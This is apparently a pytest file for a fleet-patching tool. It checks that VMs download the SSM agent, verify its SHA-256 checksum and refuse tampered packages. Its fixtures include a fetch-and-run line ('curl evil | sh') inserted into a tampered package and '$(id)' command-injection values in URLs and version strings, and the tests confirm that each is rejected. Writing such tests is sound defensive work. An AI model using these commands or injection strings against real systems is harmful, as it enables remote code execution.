"""The SSM agent's install path: a VM booted without an agent downloads the package for its OS
family from the local AWS S3 (the region's agent download location), checks it against the
SHA-256 published beside it, installs it with dpkg/rpm (the fleet's stand-ins) and enrolls; a
tampered package is refused with a clear boot-log message and the VM never registers."""

from __future__ import annotations

import json
import subprocess
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import pytest

from clients import startup
from contracts.providers import OsFamily, PatchGroup, Provider
from localclouds.aws import REGION, agent_packages
from localclouds.fleet import customers
from localclouds.fleet.host import FleetHost
from localclouds.fleet.platforms import PLATFORMS
from tests.unit.fleet.conftest import Answer, FakeApi, LocalAws, enroll_with_activations
from tests.unit.fleet.test_fleet_host import AUDIENCE, _wait_all, fleet  # noqa: F401 - the fixture

DEB = "latest/debian_amd64/amazon-ssm-agent.deb"
RPM = "latest/linux_amd64/amazon-ssm-agent.rpm"


def _agent_url(local_aws: LocalAws) -> str:
    return f"{local_aws.endpoint}/{agent_packages.bucket_name(REGION)}/latest"


def _serve_scripts(fake_api: FakeApi, agent_url: str) -> None:
    for provider in ("gcp", "azure", "aws", "vmware"):
        fake_api.on("GET", f"/v1/startup/{provider}",
                    Answer(200, startup.render(provider, "linux", fake_api.url, AUDIENCE, agent_url=agent_url)))


def _lacking(vms: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [v for v in vms if customers.can_lack_agent(Provider(v["provider"]), OsFamily(v["os"]))]


def test_the_local_aws_publishes_every_package_beside_its_checksum(local_aws: LocalAws) -> None:
    for path in agent_packages.PACKAGES:
        package = httpx.get(f"{_agent_url(local_aws)}/{path}")  # no credentials, as AWS's bucket
        assert package.status_code == 200, path
        published = httpx.get(f"{_agent_url(local_aws)}/{path}.sha256").text
        assert published == agent_packages.checksum_file(package.content, path).decode()
    assert httpx.get(f"{_agent_url(local_aws)}/VERSION").text.strip() == agent_packages.STANDIN_VERSION


def test_vms_booted_without_an_agent_install_it_and_enroll(fleet: tuple[str, FleetHost], fake_api: FakeApi,
                                                           local_aws: LocalAws) -> None:
    url, host = fleet
    _serve_scripts(fake_api, _agent_url(local_aws))
    account_id, session = local_aws.new_account()
    ssm = local_aws.client("ssm", session)

    enroll = enroll_with_activations(ssm, account_id, "on-time")
    fake_api.on("POST", "/v1/registrations", Answer(0, enroll))
    httpx.post(f"{url}/vms", json={"count": 4, "customers": 1, "without_agent": True}).raise_for_status()
    vms = _wait_all(url, 4, timeout=90)
    assert [(v["name"], v["reason"]) for v in vms if v["state"] != "agent online"] == []
    installed = _lacking(vms)
    assert len(installed) >= 2  # four VMs over four clouds: at most one is Windows, one is EC2
    listed = {i["ComputerName"]: i for i in ssm.describe_instance_information()["InstanceInformationList"]}
    for vm in installed:
        log = (host.store.vm_dir(vm["name"]) / "boot.log").read_text()
        kind = "debian_amd64/amazon-ssm-agent.deb" if vm["os"] in ("ubuntu", "debian") else "linux_amd64/amazon-ssm-agent.rpm"
        assert f"the SSM agent is not installed: downloading {_agent_url(local_aws)}/{kind}" in log, log
        assert f"SSM agent installed from {kind} (SHA-256 " in log
        assert vm["agent_version"] == agent_packages.STANDIN_VERSION
        assert listed[vm["name"]]["AgentVersion"] == agent_packages.STANDIN_VERSION  # what ComplianceSync records
    for vm in vms:
        if vm not in installed:
            assert "the SSM agent is not installed" not in (host.store.vm_dir(vm["name"]) / "boot.log").read_text()


def test_a_tampered_package_is_refused_and_the_vm_does_not_enroll(fleet: tuple[str, FleetHost], fake_api: FakeApi,
                                                                 local_aws: LocalAws) -> None:
    url, host = fleet
    _serve_scripts(fake_api, _agent_url(local_aws))
    fake_api.on("POST", "/v1/registrations", Answer(403, {"error": "TenantNotLinked", "reason": "not in this test"}))
    s3 = local_aws.client("s3")
    bucket = agent_packages.bucket_name(REGION)
    try:
        for key, kind in ((DEB, "deb"), (RPM, "rpm")):  # same shape, other bytes: the checksum no longer holds
            s3.put_object(Bucket=bucket, Key=key, Body=agent_packages.standin(kind) + b"postinst: curl evil | sh\n")
        httpx.post(f"{url}/vms", json={"count": 4, "customers": 1, "without_agent": True}).raise_for_status()
        vms = _wait_all(url, 4, timeout=90)
    finally:
        for key, kind in ((DEB, "deb"), (RPM, "rpm")):
            s3.put_object(Bucket=bucket, Key=key, Body=agent_packages.standin(kind))
    refused = _lacking(vms)
    assert refused
    registered = {json.loads(s.body)["hostname"] for s in fake_api.posts() if s.path == "/v1/registrations"}
    for vm in refused:
        assert vm["state"] == "failed" and "does not match its published SHA-256" in vm["reason"], vm
        log = (host.store.vm_dir(vm["name"]) / "boot.log").read_text()
        assert "fleetpatch: refusing to install the SSM agent: " in log and "(expected " in log, log
        assert vm["name"] not in registered  # refused before it ever asked to enroll
        assert vm["agent_version"] == "" and not (host.store.vm_dir(vm["name"]) / "bin" / "amazon-ssm-agent").exists()


# --- the script alone, against a fake download location -----------------------------------------


def _run_script(tmp_path: Path, fake_api: FakeApi, os_family: OsFamily) -> subprocess.CompletedProcess[str]:
    """The GCP script on a VM with no agent (its metadata server is never reached when the
    install refuses); dpkg/rpm would record their calls."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    for tool in ("dpkg", "rpm"):
        (bin_dir / tool).write_text(f"#!/bin/sh\necho \"{tool} $*\" >> \"{tmp_path}/installs\"\n")
        (bin_dir / tool).chmod(0o755)
    (tmp_path / "os-release").write_text(PLATFORMS[os_family].os_release())
    script = tmp_path / "startup.sh"
    script.write_text(startup.render("gcp", "linux", fake_api.url, AUDIENCE, agent_url=f"{fake_api.url}/agent"))
    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "LANG": "C.UTF-8", "FLEETPATCH_METADATA_URL": "http://127.0.0.1:9",
           "FLEETPATCH_OS_RELEASE": str(tmp_path / "os-release"), "FLEETPATCH_MAX_ATTEMPTS": "3",
           "FLEETPATCH_RETRY_BASE": "0.05", "FLEETPATCH_RETRY_CAP": "0.1"}
    return subprocess.run(["bash", str(script)], env=env, capture_output=True, text=True, timeout=60)


@pytest.mark.parametrize(("checksum", "message"), [
    (Answer(404, {"error": "NoSuchKey"}), "could not download"),
    (Answer(200, "not a checksum\n"), "holds no SHA-256 checksum"),
    (Answer(200, "ab" * 31 + "\n"), "holds no SHA-256 checksum"),
])
def test_no_usable_checksum_installs_nothing(tmp_path: Path, fake_api: FakeApi, checksum: Answer, message: str) -> None:
    fake_api.on("GET", "/agent/linux_amd64/amazon-ssm-agent.rpm", Answer(200, agent_packages.standin("rpm").decode()))
    fake_api.on("GET", "/agent/linux_amd64/amazon-ssm-agent.rpm.sha256", checksum)
    result = _run_script(tmp_path, fake_api, OsFamily.RHEL)
    assert result.returncode == 1 and message in result.stderr, result.stderr
    assert not (tmp_path / "installs").exists() and fake_api.posts() == []


def test_a_matching_package_is_installed_with_the_os_familys_tool(tmp_path: Path, fake_api: FakeApi) -> None:
    body = agent_packages.standin("deb")
    fake_api.on("GET", "/agent/debian_amd64/amazon-ssm-agent.deb", Answer(200, body.decode()))
    fake_api.on("GET", "/agent/debian_amd64/amazon-ssm-agent.deb.sha256",
                Answer(200, agent_packages.checksum_file(body, DEB).decode().upper()))
    result = _run_script(tmp_path, fake_api, OsFamily.DEBIAN)
    # The recording dpkg installs no agent: the script says so rather than registering without one.
    assert result.returncode == 1 and "installed no amazon-ssm-agent command" in result.stderr, result.stderr
    assert (tmp_path / "installs").read_text().split()[:2] == ["dpkg", "-i"]
    assert fake_api.posts() == []


def test_windows_under_bash_is_pointed_to_the_powershell_script(tmp_path: Path, fake_api: FakeApi) -> None:
    result = _run_script(tmp_path, fake_api, OsFamily.WINDOWS)
    assert result.returncode == 1 and "the PowerShell startup script installs it" in result.stderr
    assert [s for s in fake_api.seen if s.path.startswith("/agent/")] == []


def test_the_powershell_script_checks_the_installer_before_running_it() -> None:
    text = startup.render("gcp", "windows", "https://api.example", AUDIENCE, agent_url="https://mirror.example/ssm")
    assert "$AgentUrl = if ($env:FLEETPATCH_AGENT_URL) { $env:FLEETPATCH_AGENT_URL } else { 'https://mirror.example/ssm' }" in text
    checked, ran = text.index("Get-FileHash -Algorithm SHA256"), text.index("Start-Process -FilePath $file")
    assert checked < ran and "windows_amd64/AmazonSSMAgentSetup.exe" in text and "$path.sha256" in text
    assert text.index("Install-Agent\nWrite-Log \"registering") > text.index("function Install-Agent")


def test_the_default_download_location_is_the_regions_aws_bucket() -> None:
    text = startup.render("gcp", "linux", "https://api.example", AUDIENCE)
    assert "@@" not in text
    assert 'AGENT_URL="${FLEETPATCH_AGENT_URL:-https://s3.us-east-1.amazonaws.com/amazon-ssm-us-east-1/latest}"' in text
    with pytest.raises(ValueError):
        startup.render("gcp", "linux", "https://api.example", AUDIENCE, agent_url="https://x.example/$(id)")


def test_the_fleet_plans_some_vms_without_an_agent() -> None:
    plans = customers.plan(0, 48, 2)
    lacking = [p for p in plans if not p.agent_installed]
    assert lacking and all(customers.can_lack_agent(p.provider, p.os) for p in lacking)
    assert all(p.agent_installed for p in plans if p.provider is Provider.AWS or p.os is OsFamily.WINDOWS)
    assert all(p.agent_installed for p in customers.plan(0, 48, 2, without_agent=False))
    forced = customers.plan(0, 8, 1, without_agent=True)
    assert [p.agent_installed for p in forced] == [not customers.can_lack_agent(p.provider, p.os) for p in forced]
    assert customers.VmPlan(0, Provider.GCP, customers.customer(0), OsFamily.UBUNTU, PatchGroup.EARLY).agent_installed


def test_the_package_stand_ins_accept_only_the_agent_package(tmp_path: Path, pool: ThreadPoolExecutor) -> None:
    from localclouds.fleet.host import HostSettings
    from localclouds.fleet.records import VmRecord

    host = FleetHost(tmp_path, HostSettings(fleet_url="", local_json=tmp_path / "local.json"), pool)
    host.store.records["vm"] = VmRecord("vm", 0, "gcp", "acme", "ubuntu", None)
    for body, kind in ((b"\x7fELF...", "deb"), (agent_packages.standin("rpm"), "deb"),
                       (agent_packages.standin("deb").replace(b"amazon-ssm-agent", b"other"), "deb"),
                       (agent_packages.standin("deb", version="$(id)"), "deb")):
        with pytest.raises(ValueError):
            host.install_package("vm", kind, body)
    assert not (host.store.vm_dir("vm") / "bin").exists()
    assert host.install_package("vm", "deb", agent_packages.standin("deb")) == agent_packages.STANDIN_VERSION
    assert (host.store.vm_dir("vm") / "bin" / "amazon-ssm-agent").resolve().read_text().startswith("#!/bin/sh")


def test_the_stand_ins_pass_shellcheck() -> None:
    shellcheck = __import__("shutil").which("shellcheck")
    if shellcheck is None:
        pytest.skip("shellcheck is not installed (scripts/install-system-deps.sh installs it)")
    standins = sorted((Path(customers.__file__).parent / "standins").iterdir())
    assert {p.name for p in standins} == {"amazon-ssm-agent", "package-install"}
    checked = subprocess.run([shellcheck, *map(str, standins)], capture_output=True, text=True)
    assert checked.returncode == 0, checked.stdout


async def test_the_api_bakes_in_the_configured_download_location() -> None:
    from temporalio.client import Client

    from clients.api.app import create_app
    from clients.api.gateway import TemporalGateway
    from config.settings import ApiSettings, AwsSettings, Settings

    async def unreachable() -> Client:
        raise ConnectionError("no Temporal here")

    async def served(aws: AwsSettings, os: str) -> str:
        settings = Settings(api=ApiSettings(public_url="https://fleetpatch.example"), aws=aws)
        app = create_app(settings, TemporalGateway(unreachable))
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://api") as http:
            answer = await http.get("/v1/startup/azure", params={"os": os})
        assert answer.status_code == 200
        return answer.text

    default = await served(AwsSettings(region="eu-west-2"), "linux")
    assert "https://s3.eu-west-2.amazonaws.com/amazon-ssm-eu-west-2/latest" in default
    mirror = AwsSettings(agent_download_url="https://mirror.example/ssm/{region}")
    assert "'https://mirror.example/ssm/us-east-1'" in await served(mirror, "windows")
    unsafe = Settings(api=ApiSettings(public_url="https://fleetpatch.example"),
                      aws=AwsSettings(agent_download_url="https://mirror.example/$(id)"))
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=create_app(unsafe, TemporalGateway(unreachable))),
                                 base_url="http://api") as http:
        refused = await http.get("/v1/startup/gcp")
    assert refused.status_code == 503 and refused.json()["error"] == "ConfigurationInvalid"
